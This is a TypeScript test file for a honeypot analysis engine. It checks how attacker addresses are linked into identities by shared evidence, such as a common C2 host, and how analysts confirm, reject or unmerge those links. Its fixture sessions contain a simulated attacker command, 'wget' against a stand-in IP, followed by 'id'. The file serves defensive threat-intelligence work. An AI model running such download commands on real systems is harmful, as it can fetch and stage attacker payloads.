import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, it, onTestFinished } from 'vitest';
import { folders, shardPath, sid, typed } from '../cli/support/recordings.ts';
import { startEngine, type Harness } from './engine-harness.ts';

const ADDRESSES = ['192.0.2.1', '192.0.2.2', '192.0.2.3'];

/** An engine over three addresses that fetch the same thing from the same host. */
async function started(): Promise<Harness> {
  const files = await folders({
    [shardPath('web-01')]: ADDRESSES.map((_address, i) =>
      typed(sid(i), ['wget http://198.51.100.9/x', 'id']),
    ).join(''),
  });
  const log = ADDRESSES.map(
    (address, i) =>
      `<134>1 2026-03-01T10:01:00Z web-01 sessrec - session_recorded [relay@55555 sid="${sid(i)}" service="ssh" src_ip="${address}" duration_s="4.6" bytes="99" truncated="false"]\n`,
  );
  await writeFile(join(files.recordings, 'honeynet.log'), log.join(''));
  const harness = await startEngine({ open: files.recordings, roots: [files.recordings] });
  onTestFinished(() => harness.close());
  expect(await harness.ended()).toMatchObject({ state: 'done' });
  return harness;
}

const identityOf = (harness: Harness, attacker: string) =>
  harness.client.request('identity', { attacker });

it('a candidate is shown with its evidence, and can be confirmed, rejected, and taken back', async () => {
  const harness = await started();
  const query = { status: 'candidate', offset: 0, limit: 10 } as const;
  const { total, rows } = await harness.client.request('links', query);
  expect(total).toBe(3);
  const [link] = rows;
  if (!link) throw new Error('they have a host in common');
  const counting = link.evidence.filter(({ counts }) => counts);
  expect(counting).toMatchObject([{ signal: 'c2_endpoint', strength: 'strong' }]);
  expect(counting[0]?.explanation).toContain('198.51.100.9');
  const pair = { left: link.left.address ?? '', right: link.right.address ?? '' };

  await harness.client.request('links.decide', { ...pair, decision: 'confirmed' });
  const joined = await identityOf(harness, pair.left);
  expect(joined?.members.map(({ address }) => address).sort()).toEqual(Object.values(pair).sort());
  expect(joined?.states.every(({ count }) => count === 2)).toBe(true);
  expect(await identityOf(harness, pair.right)).toEqual(joined);
  expect(joined?.links.map(({ status }) => status)).toContain('confirmed');

  await harness.client.request('links.decide', { ...pair, decision: 'rejected' });
  expect((await identityOf(harness, pair.left))?.members).toHaveLength(1);
  expect((await harness.client.request('links', { ...query, status: 'rejected' })).total).toBe(1);

  await harness.client.request('links.decide', { ...pair, decision: null });
  expect((await harness.client.request('links', query)).total).toBe(3);
});

it('an attacker is taken out of its identity, and the others stay together', async () => {
  const harness = await started();
  const [one = '', two = '', three = ''] = ADDRESSES;
  const decision = 'confirmed' as const;
  await harness.client.request('links.decide', { left: one, right: two, decision });
  await harness.client.request('links.decide', { left: two, right: three, decision });
  expect((await identityOf(harness, one))?.members).toHaveLength(3);
  await harness.client.request('identity.unmerge', { attacker: three });
  expect((await identityOf(harness, one))?.members.map(({ address }) => address).sort()).toEqual([
    one,
    two,
  ]);
  expect((await identityOf(harness, three))?.members).toMatchObject([{ address: three }]);
  expect((await identityOf(harness, three))?.states.every(({ count }) => count === 1)).toBe(true);
});

it('the history of a state ends in the state', async () => {
  const harness = await started();
  const attacker = ADDRESSES[0] ?? '';
  const identity = await identityOf(harness, attacker);
  const [state] = identity?.states ?? [];
  if (!state) throw new Error('a session gives states');
  const { primitive } = state;
  const history = await harness.client.request('states.history', { attacker, primitive });
  expect(history[0]).toMatchObject({ from: null });
  expect(history.at(-1)).toMatchObject({ to: state.state, ts: state.since, count: 1 });
});

it('nobody knows the hands of an unknown attacker', async () => {
  const harness = await started();
  expect(await identityOf(harness, '192.0.2.99')).toBeNull();
  const strangers = { left: '192.0.2.99', right: '192.0.2.1', decision: 'confirmed' } as const;
  await expect(harness.client.request('links.decide', strangers)).rejects.toMatchObject({
    code: 'E_ATTACKER_UNKNOWN',
  });
  await expect(
    harness.client.request('identity.unmerge', { attacker: '192.0.2.99' }),
  ).rejects.toMatchObject({ code: 'E_ATTACKER_UNKNOWN' });
});

it('what is said of an identity as a whole is explained as an observation is', async () => {
  const harness = await started();
  const [said] = (await identityOf(harness, ADDRESSES[0] ?? ''))?.derived ?? [];
  expect(said).toMatchObject({ primitive: 'temporal.persistence', value: 'hit_and_run' });
  const { evidenceRef, primitive } = said ?? { evidenceRef: '', primitive: '' };
  const explained = await harness.client.request('explain', { evidenceRef, primitive });
  expect(explained?.explain).toMatchObject({ metric: 'days with a session', measured: 1 });
  expect(explained?.observation).toEqual(said);
  const other = { evidenceRef, primitive: 'cultural.holiday_gaps' };
  expect(await harness.client.request('explain', other)).toBeNull();
});

it('an identity is asked for by each of its addresses', async () => {
  const harness = await started();
  const [one = '', two = '', three = ''] = ADDRESSES;
  const asked = async (text: string): Promise<readonly (string | null)[]> => {
    const all = { sort: 'address', descending: false, offset: 0, limit: 10 } as const;
    let slice = await harness.client.request('attackers', { ...all, text });
    while (slice.scan) slice = await harness.client.request('attackers', { ...all, text });
    return slice.rows.map(({ address }) => address);
  };
  expect(await asked(`identity=${one}`)).toEqual([one]);
  await harness.client.request('links.decide', { left: one, right: two, decision: 'confirmed' });
  // Lists are made again a moment after a decision.
  await expect.poll(() => asked(`identity=${one}`)).toEqual([one, two]);
  expect(await asked(`identity=${two}`)).toEqual([one, two]);
  expect(await asked(`identity!=${two}`)).toEqual([three]);
  const uuid = (await identityOf(harness, one))?.uuid ?? '';
  expect(await asked(`identity=${uuid} and cmd ~ wget`)).toEqual([one, two]);
});
